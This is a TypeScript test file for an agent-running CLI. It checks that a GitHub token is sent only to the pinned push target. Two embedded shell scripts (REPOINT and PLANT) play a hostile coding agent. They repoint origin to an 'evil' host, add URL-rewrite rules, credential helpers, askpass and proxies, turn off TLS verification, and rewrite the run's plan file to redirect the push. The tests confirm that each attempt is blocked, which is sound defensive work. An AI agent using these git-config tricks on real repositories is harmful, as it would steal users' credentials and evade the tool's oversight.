// Where the GitHub token goes, end to end (DESIGN §7a): real `svc start --pr` runs push over HTTPS to a real
// git smart-HTTP host (git http-backend) standing in for GitHub, which records every Authorization header, and open
// the pull request on the GitHub REST stand-in. A second git host on the same 127.0.0.1 (so the token's host rule
// alone would let it through) and a plain HTTP proxy play the places a hostile agent points git at. The push target
// is pinned when the run is made: an agent that repoints origin gets the push refused, one that plants helpers and
// proxies gets them ignored, and a sandboxed one cannot change the config at all.
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { makeRepo, startGithubStandIn, readJson, CLI, EDIT_SCRIPT, GIT_ENV, type StandIn, type TestRepo } from '../engine/fixtures.ts';
import { makeCert } from '../trigger/standins.ts';
import { startGitHttpsHost, basicPassword, type GitHttpsHost } from '../helpers/git-https-host.ts';
import { runChild } from '../helpers/run-child.ts';
import { bwrapWorks } from '../helpers/sandbox.ts';

const TOKEN = 'pt-github-token-4c7e91';

// Repoints origin to the evil host (same IP as the GitHub stand-in), adds every URL rule, helper and proxy it can,
// and rewrites the run's pinned target in state.json, which only an unsandboxed agent can even see.
const REPOINT = `#!/bin/sh
cat > /dev/null
evil=$(grep -o 'EVIL=[^ ]*' "$SVC_TASK_FILE" | head -1 | cut -d= -f2)
proxy=$(grep -o 'PROXY=[^ ]*' "$SVC_TASK_FILE" | head -1 | cut -d= -f2)
origin=$(git remote get-url origin)
git remote set-url origin "$evil/mallory/loot.git" 2>/dev/null && echo repointed > "$PWD/repointed"
git config --add "url.$evil/mallory/loot.git.insteadOf" "$origin" 2>/dev/null
git config --add remote.origin.pushurl "$evil/mallory/loot.git" 2>/dev/null
git config --add credential.helper "!sh -c 'echo ran > $PWD/helper-ran'" 2>/dev/null
git config --add http.proxy "$proxy" 2>/dev/null
plan="$PWD/../../runs/$SVC_RUN_ID/plan.json"
if [ -w "$plan" ]; then
  sed -i "s#$origin#$evil/mallory/loot.git#g" "$plan" && echo "rewrote plan" > "$PWD/plan-rewritten"
fi
echo "fixed" >> a.txt
`;

// Leaves origin alone but plants what would carry the token elsewhere or run a program of its own at push time.
const PLANT = `#!/bin/sh
cat > /dev/null
proxy=$(grep -o 'PROXY=[^ ]*' "$SVC_TASK_FILE" | head -1 | cut -d= -f2)
git config --add credential.helper "!sh -c 'echo ran > $PWD/helper-ran'"
git config --add core.askPass "$PWD/askpass-ran.sh"
git config --add http.proxy "$proxy"
git config --add https.proxy "$proxy"
git config --add http.sslVerify false
echo "fixed" >> a.txt
`;

describe('the push target, end to end', () => {
  let root: string;
  let rest: StandIn;
  let github: GitHttpsHost;
  let evil: GitHttpsHost;
  let proxy: Server;
  let proxyUrl: string;
  const proxySeen: string[] = [];
  let certPath: string;
  const repos: TestRepo[] = [];

  before(async () => {
    root = mkdtempSync(join(tmpdir(), 'svc-push-'));
    const cert = makeCert(root);
    certPath = join(root, 'cert.pem');
    for (const dir of ['github', 'evil']) mkdirSync(join(root, dir, dir === 'evil' ? 'mallory' : 'acme'), { recursive: true });
    execFileSync('git', ['init', '-q', '--bare', join(root, 'evil', 'mallory', 'loot.git')]);
    rest = await startGithubStandIn({ originOf: (owner, name) => join(root, 'github', owner, `${name}.git`) });
    // GitHub Enterprise's shape: the API under /api/v3 on the git host's own origin (the token's one origin).
    github = await startGitHttpsHost({ root: join(root, 'github'), ...cert, password: TOKEN, api: rest.url });
    // The evil host takes any password, so a push that reached it with the token would land and be seen.
    evil = await startGitHttpsHost({ root: join(root, 'evil'), ...cert, password: null });
    proxy = createServer((req, res) => {
      proxySeen.push(`${req.method} ${req.url}`);
      res.writeHead(403).end();
    });
    proxy.on('connect', (req, socket) => {
      proxySeen.push(`CONNECT ${req.url}`);
      socket.end('HTTP/1.1 403 Forbidden\r\n\r\n');
    });
    await new Promise<void>((r) => proxy.listen(0, '127.0.0.1', r));
    proxyUrl = `http://127.0.0.1:${(proxy.address() as { port: number }).port}`;
  });

  after(async () => {
    await github.close();
    await evil.close();
    await rest.close();
    await new Promise((r) => proxy.close(r));
    for (const repo of repos) repo.cleanup();
    rmSync(root, { recursive: true, force: true });
  });

  /** A repository whose origin is `<github>/acme/<name>.git`, a bare repository the git host serves. */
  function repoNamed(name: string, script: string): TestRepo {
    const repo = makeRepo({ providers: { agent: script }, policy: { checks: [{ name: 'fixed', run: ['grep', '-q', 'fixed', 'a.txt'] }] } });
    repos.push(repo);
    execFileSync('git', ['clone', '-q', '--bare', repo.origin, join(root, 'github', 'acme', `${name}.git`)]);
    execFileSync('git', ['remote', 'set-url', 'origin', `${github.url}/acme/${name}.git`], { cwd: repo.repo });
    return repo;
  }

  async function runPr(repo: TestRepo, sandbox: 'bwrap' | 'none'): Promise<Record<string, any>> {
    const env = {
      PATH: process.env.PATH, HOME: repo.home, LANG: 'C', ...GIT_ENV, GITHUB_API_URL: `${github.url}/api/v3`, GITHUB_TOKEN: TOKEN,
      GIT_SSL_CAINFO: certPath, NODE_EXTRA_CA_CERTS: certPath, GIT_TERMINAL_PROMPT: '0', SVC_SHIP: '0',
      ...(sandbox === 'none' ? { SVC_SANDBOX: 'none' } : {}),
    };
    const brief = `EVIL=${evil.url} PROXY=${proxyUrl} append fixed to a.txt`;
    const res = await runChild(process.execPath, [CLI, 'start', '--brief', brief, '--pr', '--provider', 'agent'], { cwd: repo.repo, env });
    const { run } = JSON.parse(res.stdout.trim().split('\n')[0]!) as { run: string };
    const dir = join(repo.repo, '.svc', 'runs', run);
    return { ...readJson(join(dir, 'state.json')), plan: readJson(join(dir, 'plan.json')), stderr: res.stderr, code: res.code };
  }

  /** Requests that reached the GitHub git host for repository `name`. */
  function pushesTo(name: string) {
    return github.requests.filter((r) => r.path.startsWith(`/acme/${name}.git/`));
  }

  function branchAt(bare: string, branch: string): string | null {
    try {
      return execFileSync('git', ['--git-dir', bare, 'rev-parse', `refs/heads/${branch}`], { encoding: 'utf8' }).trim();
    } catch {
      return null;
    }
  }

  function assertNothingReachedEvil(): void {
    assert.deepEqual(evil.requests, [], 'no request reached the evil git host');
    assert.deepEqual(proxySeen, [], 'no request went through the planted proxy');
    assert.equal(branchAt(join(root, 'evil', 'mallory', 'loot.git'), 'main'), null);
  }

  /** Every credential any request carried, decoded: the token, and only at the GitHub git host. */
  function assertTokenOnlyAtGithub(name: string): void {
    const sent = pushesTo(name).filter((r) => r.authorization !== null);
    assert.ok(sent.length > 0, 'the push reached the GitHub stand-in with credentials');
    for (const r of sent) assert.equal(basicPassword(r.authorization), TOKEN);
    assert.equal(Buffer.from(sent[0]!.authorization!.slice(6), 'base64').toString().split(':')[0], 'x-access-token');
  }

  it('pins the push target when the run is made, delivers the token to the GitHub stand-in and lands the branch there', async () => {
    const repo = repoNamed('normal', EDIT_SCRIPT);
    const state = await runPr(repo, bwrapWorks ? 'bwrap' : 'none');
    assert.equal(state.status, 'succeeded', `${state.error} ${state.stderr}`);
    assert.deepEqual(state.plan.push_target, { url: `${github.url}/acme/normal.git`, repo: 'acme/normal' });
    assert.equal(branchAt(join(root, 'github', 'acme', 'normal.git'), state.branch), state.head_sha, 'the branch landed');
    assertTokenOnlyAtGithub('normal');
    const create = rest.requests.find((r) => r.method === 'POST' && r.path === '/repos/acme/normal/pulls');
    assert.ok(create, 'the pull request was opened on the pinned repository');
    assert.equal(create.headers.authorization, `Bearer ${TOKEN}`);
    assert.match(state.pr_url, /\/acme\/normal\/pull\/\d+$/);
    assertNothingReachedEvil();
  });

  it('refuses to start a --pr run whose config already redirects pushes, before any agent runs', async () => {
    const repo = repoNamed('redirected', EDIT_SCRIPT);
    execFileSync('git', ['config', `url.${evil.url}/mallory/loot.git.pushInsteadOf`, `${github.url}/acme/redirected.git`], { cwd: repo.repo });
    const env = { PATH: process.env.PATH, HOME: repo.home, ...GIT_ENV, GITHUB_TOKEN: TOKEN, SVC_SANDBOX: 'none', SVC_SHIP: '0' };
    const res = await runChild(process.execPath, [CLI, 'start', '--brief', 'x', '--pr', '--provider', 'agent'], { cwd: repo.repo, env });
    assert.equal(res.code, 1);
    assert.match(res.stderr, /Refusing to start a --pr run: The repository's git config redirects pushes \("url\..*\.pushinsteadof"\)/);
    assert.equal(existsSync(join(repo.repo, '.svc', 'runs')), false, 'no run was made');
    assertNothingReachedEvil();
  });

  it('unsandboxed: an agent that repoints origin, adds URL rules, a helper and a proxy and rewrites the run\'s plan gets the push refused', async () => {
    const repo = repoNamed('repoint', REPOINT);
    const state = await runPr(repo, 'none');
    assert.ok(existsSync(join(state.workdir, 'repointed')), 'the agent did repoint origin');
    assert.ok(existsSync(join(state.workdir, 'plan-rewritten')), 'the agent did rewrite the plan file');
    assert.equal(state.status, 'failed');
    assert.match(state.error, /^Pull request not opened: .*changed during the run.*svc pinned "https:\/\/127\.0\.0\.1:\d+\/acme\/repoint\.git"/);
    // The worker kept the plan in memory and wrote it back over the agent's edit, so no later --open-pr reads the edit.
    assert.equal(state.plan.push_target.url, `${github.url}/acme/repoint.git`);
    assertNothingReachedEvil();
    // The --pr check before the agent read the origin (git-upload-pack); nothing was sent to it (git-receive-pack).
    assert.deepEqual(pushesTo('repoint').filter((r) => r.path.includes('git-receive-pack')), [], 'nothing was pushed');
    assert.equal(rest.requests.some((r) => r.path.includes('/repoint/')), false, 'no pull request was asked for');
    assert.equal(existsSync(join(state.workdir, 'helper-ran')), false, 'the planted credential helper never ran');
  });

  it('unsandboxed: helpers, askpass and proxies an agent plants are ignored and the push goes to the pinned origin', async () => {
    const repo = repoNamed('plant', PLANT);
    const state = await runPr(repo, 'none');
    assert.equal(state.status, 'succeeded', `${state.error} ${state.stderr}`);
    assert.match(execFileSync('git', ['config', '--get-all', 'http.proxy'], { cwd: repo.repo, encoding: 'utf8' }), /127\.0\.0\.1/, 'the agent did plant a proxy');
    assert.equal(branchAt(join(root, 'github', 'acme', 'plant.git'), state.branch), state.head_sha, 'the branch landed');
    assertTokenOnlyAtGithub('plant');
    assertNothingReachedEvil();
    assert.equal(existsSync(join(state.workdir, 'helper-ran')), false, 'the planted credential helper never ran');
  });

  it('without a token, names the pinned repository to `gh pr create` (--repo), so gh never picks it from the remotes', async () => {
    const repo = makeRepo({ providers: { agent: EDIT_SCRIPT }, policy: { checks: [{ name: 'fixed', run: ['grep', '-q', 'fixed', 'a.txt'] }] } });
    repos.push(repo);
    const ghDir = join(repo.root, 'gh-bin');
    mkdirSync(ghDir);
    const ghLog = join(repo.root, 'gh-args.log');
    // `gh auth token` has no login to give (so svc takes the gh path); `gh pr create` records its arguments.
    writeFileSync(join(ghDir, 'gh'), `#!/bin/sh
[ "$1" = auth ] && exit 1
printf '%s\\n' "$@" > "${ghLog}"
echo "https://github.example/acme/api/pull/77"
`);
    chmodSync(join(ghDir, 'gh'), 0o755);
    const env = { PATH: `${ghDir}:${process.env.PATH}`, HOME: repo.home, LANG: 'C', ...GIT_ENV, SVC_SHIP: '0', SVC_SANDBOX: 'none' };
    const res = await runChild(process.execPath, [CLI, 'start', '--brief', 'append fixed', '--pr', '--provider', 'agent'], { cwd: repo.repo, env });
    const { run } = JSON.parse(res.stdout.trim().split('\n')[0]!) as { run: string };
    const state = readJson(join(repo.repo, '.svc', 'runs', run, 'state.json'));
    assert.equal(state.status, 'succeeded', `${state.error} ${res.stderr}`);
    assert.equal(state.pr_url, 'https://github.example/acme/api/pull/77');
    const args = readFileSync(ghLog, 'utf8').split('\n');
    assert.deepEqual(args.slice(0, 4), ['pr', 'create', '--repo', 'acme/api']);
    assert.equal(branchAt(repo.origin, state.branch), state.head_sha, 'the branch was pushed to the pinned (local) origin');
  });

  it('sandboxed: the agent cannot change the config or the run\'s plan, and the branch lands at the pinned origin', { skip: bwrapWorks ? false : 'bwrap cannot run on this host' }, async () => {
    const repo = repoNamed('sandboxed', REPOINT);
    const state = await runPr(repo, 'bwrap');
    assert.equal(state.status, 'succeeded', `${state.error} ${state.stderr}`);
    assert.equal(existsSync(join(state.workdir, 'repointed')), false, 'git config is read-only inside the sandbox');
    assert.equal(existsSync(join(state.workdir, 'plan-rewritten')), false, 'the run folder is not visible inside the sandbox');
    assert.equal(execFileSync('git', ['remote', 'get-url', 'origin'], { cwd: repo.repo, encoding: 'utf8' }).trim(), `${github.url}/acme/sandboxed.git`);
    assert.equal(branchAt(join(root, 'github', 'acme', 'sandboxed.git'), state.branch), state.head_sha, 'the branch landed');
    assertTokenOnlyAtGithub('sandboxed');
    assertNothingReachedEvil();
  });
});
